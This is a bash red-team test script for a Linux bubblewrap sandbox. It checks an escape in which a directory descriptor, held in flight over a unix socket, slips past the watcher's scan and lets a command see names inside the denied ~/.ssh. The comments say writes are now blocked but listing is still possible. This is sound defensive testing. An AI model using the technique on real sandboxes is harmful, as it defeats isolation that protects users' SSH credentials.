#!/bin/bash
# Escape class H1 (linux-bwrap), red team on ce50c65's held_below: it
# looks for a directory at or below the covered one in each command
# process's cwd, root and /proc/PID/fd. A descriptor in flight in a unix
# socket (SCM_RIGHTS, sent and not yet received) is in no process's fd
# table. The command opens the staged directory (0957: `mv ~/.ssh
# ~/.ssh.old; mv ~/.ssh.new ~/.ssh`, allowWrite "~"), sends the
# descriptor to itself over a socketpair and closes its own copy; after the
# watcher's cover and scan it receives it, fchdir()s there and sees and
# writes the names the host puts in the new ~/.ssh. Nothing stops the run.
# Needs unix sockets (allowAllUnixSockets, as for a docker socket).
# Fixed since: the writes (the monitor judges every open, write-only ones
# too, by the path the descriptor has then: a new file planted, a host's
# file appended to). Still open: the names are seen (stat is not judged).
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
cd "$P" || exit 1

cat > "$WORK/probe.py" <<'PYEOF'
import ctypes, os, sys, threading
from below import look_below, wait_marker
p, stage = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
ssh = os.path.join(os.environ["HOME"], ".ssh")
res = open(p + "/res", "a")
def holder():
    import socket, array
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    fd = os.open(stage, os.O_RDONLY | os.O_DIRECTORY)
    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    os.close(fd)
    open(p + "/in", "w").close()
    wait_marker(p)
    msg, anc, flags, addr = b.recvmsg(1, socket.CMSG_LEN(4))
    fd = array.array("i", anc[0][2][:4])[0]
    os.fchdir(fd)
    look_below(res, ssh)
open(p + "/ready", "w").close()
holder()
res.write("leader-cwd %s\n" % os.getcwd())
res.write("done\n")
PYEOF

below_stage
S=$(fsjson s '{"denyRead":["~/.ssh"],"allowWrite":[".","~"],"denyWrite":[]}' '{"allowedDomains":[],"deniedDomains":[],"allowAllUnixSockets":true}')
below_run "$S" "into ~/.ssh.new" "$P" "$HOME/.ssh.new"
diag "res: $(tr '\n' ' ' < "$P/res" 2>/dev/null)"
diag "srt: $(tr '\n' ' ' < "$WORK/bg.out" | cut -c1-600)"
WHY="a descriptor in flight in a Unix socket is in no process table (SECURITY.md)"
W="directory fd in flight in a unix socket in the directory moved to the denied ~/.ssh"
below_stopped "$W" "$WHY"
below_checks "$W" "$WHY"
echo "1..$_tap_n"
